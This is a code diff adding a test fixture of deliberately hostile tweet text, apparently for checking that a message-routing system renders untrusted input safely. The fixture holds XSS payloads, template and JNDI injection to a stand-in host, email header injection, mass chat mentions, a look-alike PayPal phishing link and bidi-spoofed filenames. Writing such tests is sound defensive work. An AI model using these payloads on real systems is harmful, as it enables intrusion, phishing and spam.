@@ -19,6 +19,22 @@ from switchboard.shared.events import (
 )
 from switchboard.shared.labels import Department, Urgency
 
+# Tweet text written to break whatever shows it: markup, template syntax, header injection, chat
+# mentions, a 10 kB link, a look-alike domain, bidi overrides, invisible characters, wiki markup.
+LONG_URL = "https://evil.example/" + "a" * 10_000
+HOSTILE = "\n".join([
+    "<script>alert(1)</script> <img src=x onerror=alert(2)>",
+    "{{ 7*7 }} {% raw %}{{ config }}{% endraw %} ${jndi:ldap://evil.example/a} {!Lead.Name}",
+    "\r\nBcc: victim@evil.example\r\nX-Injected: yes",
+    "@channel @here @everyone <!channel> <!here> <@U123ABC> @\u200bhere",
+    LONG_URL,
+    "log in at https://p\u0430ypal.com/login",  # the a is Cyrillic
+    "\u202egnp.exe\u202c zero\u200bwidth\u2060joiner tag\U000e0041 "
+    "family \U0001f468\u200d\U0001f469",
+    "*bold* [link](https://evil.example) h1. title [~accountid:123] {color:red}x{color}",
+])  # fmt: skip
+INVISIBLE = ("\u202e", "\u202c", "\u200b", "\u2060", "\U000e0041", "\r")
+
 
 def a_tweet(**fields: object) -> Tweet:
     values: dict[str, object] = dict(
